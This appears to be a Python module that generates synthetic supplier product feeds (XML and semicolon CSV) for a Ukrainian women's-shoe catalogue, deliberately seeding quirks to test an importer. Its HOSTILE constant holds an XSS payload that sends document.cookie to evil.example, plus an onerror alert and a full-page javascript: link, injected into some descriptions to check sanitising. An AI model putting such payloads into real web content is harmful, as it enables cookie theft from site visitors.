"""The four suppliers' files, written offer by offer so 50 000 models stream.

Each writer gets an open text file, the supplier's live models and a
function that turns a picture file name into the URL the feed should carry.
"""

from __future__ import annotations

import csv
from collections.abc import Callable
from typing import TextIO
from xml.sax.saxutils import escape, quoteattr

from .catalog import USD_RATE, Model
from .vocab import KINDS

PictureUrl = Callable[[Model, str], str]

HOSTILE = ('<script>fetch("https://evil.example/?"+document.cookie)</script>'
           '<img src="x.gif" onerror="alert(\'xss\')">'
           '<a href="javascript:steal()" style="position:fixed;inset:0">Знижка!</a>')


def picture_names(model: Model) -> list[str]:
    """File names of a model's photos, as they lie in <supplier>/img/."""
    ext = "png" if model.supplier.slug == "solomoda" else "jpg"
    names = [f"{model.code}-{k}.{ext}" for k in range(1, model.photos + 1)]
    if "space_in_url" in model.quirks:
        names[0] = f"{model.code} {1}.{ext}"  # real feeds do carry raw spaces
    return names


def _pictures(model: Model, url: PictureUrl, tag: str) -> str:
    urls = [url(model, n) for n in picture_names(model)]
    if "repeated_photo" in model.quirks:
        urls.append(urls[0])
    return "".join(f"<{tag}>{escape(u)}</{tag}>" for u in urls)


def _in_stock(model: Model) -> list[int]:
    return [s for s, q in model.stock.items() if q > 0]


def describe_html(model: Model) -> str:
    html = (f"<h3>{model.kind.uk}: {model.colour.uk}</h3>"
            f"<ul><li>Матеріал верху: {model.material.uk}</li>"
            f"<li>Сезон: {model.season}</li></ul>"
            f'<p style="color:#555">Жіноча модель, розміри {min(model.stock)}–{max(model.stock)}.</p>')
    return html + (HOSTILE if "hostile_html" in model.quirks else "")


def describe_plain(model: Model) -> str:
    text = f"{model.kind.uk}, {model.material.uk}, сезон {model.season}. Колір: {model.colour.uk}."
    if "delimiter_in_text" in model.quirks:
        text += ' Легкі; зручні; модель "Весна"'
    return text


def _yml_head(out: TextIO, shop: str, date: str, currencies: dict, categories: dict,
              doctype: bool) -> None:
    out.write('<?xml version="1.0" encoding="UTF-8"?>\n')
    if doctype:
        out.write('<!DOCTYPE yml_catalog SYSTEM "shops.dtd">\n')
    out.write(f'<yml_catalog date="{date}">\n<shop>\n<name>{escape(shop)}</name>\n<currencies>')
    out.write("".join(f'<currency id="{c}" rate="{r}"/>' for c, r in currencies.items()))
    out.write("</currencies>\n<categories>\n")
    for cid, (title, parent) in categories.items():
        parent_attr = f' parentId="{parent}"' if parent else ""
        out.write(f'<category id="{cid}"{parent_attr}>{escape(title)}</category>\n')
    out.write("</categories>\n<offers>\n")


def _yml_tail(out: TextIO) -> None:
    out.write("</offers>\n</shop>\n</yml_catalog>\n")


def write_kalyna(out: TextIO, models: list[Model], date: str, url: PictureUrl) -> None:
    cats = {1: ("Жіноче взуття", None)} | {100 + i: (k.uk, 1) for i, k in enumerate(KINDS)}
    _yml_head(out, "Калина", date, {"UAH": "1"}, cats, doctype=True)
    for m in models:
        brand = '"Kalyna"' if "quoted_brand" in m.quirks else "Kalyna"
        name_ua = f"{m.clean_name} {brand} {m.code}"
        if "emoji" in m.quirks:
            name_ua = f"🔥 {name_ua} ХІТ"
        name_ru = f"{m.kind.ru} женские {m.material.ru} {m.colour.ru} Kalyna {m.code}"
        category = 999 if "unknown_category" in m.quirks else 100 + KINDS.index(m.kind)
        price = "" if "no_price" in m.quirks else f"<price>{m.price}</price>"
        old = f"<oldprice>{m.rrp}</oldprice>" if m.rrp else ""
        shared = (f"<url>https://kalyna.example/p/{m.code}</url>{price}{old}"
                  f"<currencyId>UAH</currencyId><categoryId>{category}</categoryId>"
                  f"{_pictures(m, url, 'picture')}<vendor>Kalyna</vendor>"
                  f"<vendorCode>{m.code}</vendorCode><name>{escape(name_ru)}</name>"
                  f"<name_ua>{escape(name_ua)}</name_ua>"
                  f"<description>{escape(describe_html(m))}</description>")
        params = (f'<param name="Колір">{escape(m.colour.uk)}</param>'
                  f'<param name="Матеріал">{m.material.uk}</param>'
                  f'<param name="Сезон">{m.season}</param>')
        for n, (size, qty) in enumerate(m.stock.items()):
            offer = (f'<offer id="{m.code}-{size}" group_id="{m.code}" '
                     f'available="{"true" if qty else "false"}">{shared}'
                     f"<quantity_in_stock>{qty}</quantity_in_stock>"
                     f'<param name="Размер">{size}</param>{params}</offer>\n')
            out.write(offer)
            if n == 0 and "duplicate_offer" in m.quirks:
                out.write(offer)  # exported twice: must not count twice
    _yml_tail(out)


def _size_text(sizes: list[int]) -> str:
    if len(sizes) > 2 and sizes == list(range(sizes[0], sizes[-1] + 1)):
        return f"{sizes[0]}-{sizes[-1]}"
    return ", ".join(map(str, sizes))


def write_vzuttia(out: TextIO, models: list[Model], date: str, url: PictureUrl) -> None:
    cats = {20: ("Жінкам", None)} | {200 + i: (f"Жіноче взуття: {k.uk}", 20)
                                       for i, k in enumerate(KINDS)}
    _yml_head(out, "VZUTTIA", date, {"UAH": "1", "USD": str(USD_RATE)}, cats, doctype=False)
    for m in models:
        sizes = _in_stock(m)
        name = f"VZ-{m.number} {m.clean_name}"
        if "escaped_name" in m.quirks:
            name += " &quot;VZUTTIA&quot;"  # escaped once by the shop, again below
        old = ""
        if m.rrp:
            old = f"<oldprice>{m.usd(m.rrp)}</oldprice>"
        size_param = f'<param name="Розмір">{_size_text(sizes)}</param>' if sizes else ""
        out.write(
            f'<offer id="{m.code}" available="{"true" if sizes else "false"}">'
            f"<url>https://vzuttia.example/{m.code}.html</url>"
            f"<price>{m.usd(m.price)}</price>{old}<currencyId>USD</currencyId>"
            f"<categoryId>{200 + KINDS.index(m.kind)}</categoryId>"
            f"{_pictures(m, url, 'picture')}<vendor>VZUTTIA</vendor>"
            f"<vendorCode>VZ-{m.number}</vendorCode>"
            f"<stock_quantity>{sum(m.stock.values())}</stock_quantity>"
            f"<name>{escape(f'{m.kind.ru} {m.colour.ru} VZ-{m.number}')}</name>"
            f"<name_ua>{escape(name)}</name_ua>"
            f"<description_ua><![CDATA[{describe_html(m).replace(']]>', '')}]]></description_ua>"
            f"{size_param}<param name=\"Колір\">{escape(m.colour.uk)}</param>"
            f'<param name="Матеріал">{m.material.uk}</param><param name="Сезон">{m.season}</param>'
            "</offer>\n")
    _yml_tail(out)


def write_solomoda(out: TextIO, models: list[Model], date: str, url: PictureUrl) -> None:
    out.write(f'<?xml version="1.0" encoding="UTF-8"?>\n<catalog updated="{date}">\n')
    for m in models:
        sizes = "".join(f'<size value="{s}" qty="{q}"/>' for s, q in m.stock.items())
        rrp = f"<rrp>{m.rrp}.00</rrp>" if m.rrp else ""
        out.write(
            f'<item sku="{m.code}"><title>{escape(f"{m.clean_name} арт. {m.code}")}</title>'
            f"<brand>Solo Moda</brand><category path={quoteattr(f'Взуття/Жінкам/{m.kind.uk}')}/>"
            f'<price currency="UAH">{m.price}.00</price>{rrp}<sizes>{sizes}</sizes>'
            f"<photos>{_pictures(m, url, 'photo')}</photos><attributes>"
            f'<attr key="колір">{escape(m.colour.uk)}</attr>'
            f'<attr key="матеріал">{m.material.uk}</attr><attr key="сезон">{m.season}</attr>'
            f"</attributes><text>{escape(describe_plain(m))}</text></item>\n")
    out.write("</catalog>\n")


def _hryvnia(value: int, n: int) -> str:
    """'1 299,00' with a plain or a no-break space, as Excel exports do."""
    if value < 1000:
        return f"{value},00"
    return f"{value // 1000}{' ' if n % 3 else chr(0xA0)}{value % 1000:03d},00"


LORENA_HEADER = ("Артикул", "Назва", "Категорія", "Ціна", "РРЦ", "Розміри", "Фото",
                 "Колір", "Матеріал", "Сезон", "Опис", "Наявність")


def write_lorena(out: TextIO, models: list[Model], date: str, url: PictureUrl) -> None:
    table = csv.writer(out, delimiter=";", lineterminator="\r\n")
    table.writerow(LORENA_HEADER)
    for n, m in enumerate(models):
        sizes = _in_stock(m)
        table.writerow((
            m.code, f"{m.code} {m.clean_name} LORENA", f"Жіноче взуття/{m.kind.uk}",
            "0,00" if "zero_price" in m.quirks else _hryvnia(m.price, n),
            _hryvnia(m.rrp, n) if m.rrp else "", ",".join(map(str, sizes)),
            "|".join(url(m, name) for name in picture_names(m)),
            m.colour.uk, m.material.uk, m.season, describe_plain(m),
            "так" if sizes else "ні",
        ))
    out.write("\r\n\r\n")  # Excel leaves blank lines at the end


WRITERS = {"kalyna": write_kalyna, "vzuttia": write_vzuttia,
           "solomoda": write_solomoda, "lorena": write_lorena}
